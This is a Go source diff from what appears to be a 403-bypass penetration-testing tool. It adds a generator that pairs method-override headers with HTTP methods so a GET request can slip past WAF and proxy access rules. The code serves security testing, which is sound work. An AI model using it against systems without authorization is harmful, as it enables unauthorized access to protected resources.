@@ -0,0 +1,85 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateMethodOverridePayloads generates payloads by keeping GET on the request line
+while asking the backend to treat the request as another method through method
+override headers.
+
+It reads the override header names (X-HTTP-Method-Override, X-HTTP-Method,
+X-Method-Override) from header_http_methods.lst and reuses the HTTP methods list
+of the http_methods module (internal_http_methods.lst).
+
+One payload is generated per header x method combination, GET itself is skipped
+as it would be a no-op. Frameworks and middlewares honoring these headers
+(e.g. Symfony, Laravel, Express method-override) often run after the WAF/proxy
+ACLs, which only see the GET.
+
+The original URL's scheme, host, path and query string are preserved.
+*/
+func (pg *PayloadGenerator) GenerateMethodOverridePayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL")
+		return allJobs
+	}
+
+	overrideHeaders, err := ReadPayloadsFromFile("header_http_methods.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read method override headers: %v", err)
+		return allJobs
+	}
+
+	httpMethods, err := pg.readModulePayloads("internal_http_methods.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read HTTP methods: %v", err)
+		return allJobs
+	}
+
+	// Extract path and query
+	rawURI := parsedURL.Path
+	if parsedURL.Query != "" {
+		rawURI += "?" + parsedURL.Query
+	}
+
+	// Base job template
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		RawURI:       rawURI,
+		BypassModule: bypassModule,
+	}
+
+	for _, header := range overrideHeaders {
+		if header == "" {
+			continue
+		}
+
+		for _, method := range httpMethods {
+			if method == "" || strings.EqualFold(method, "GET") {
+				continue
+			}
+
+			job := baseJob
+			job.Headers = []Headers{{
+				Header: header,
+				Value:  method,
+			}}
+			job.PayloadToken = GeneratePayloadToken(job)
+			allJobs = append(allJobs, job)
+		}
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s\n", len(allJobs), targetURL)
+	return allJobs
+}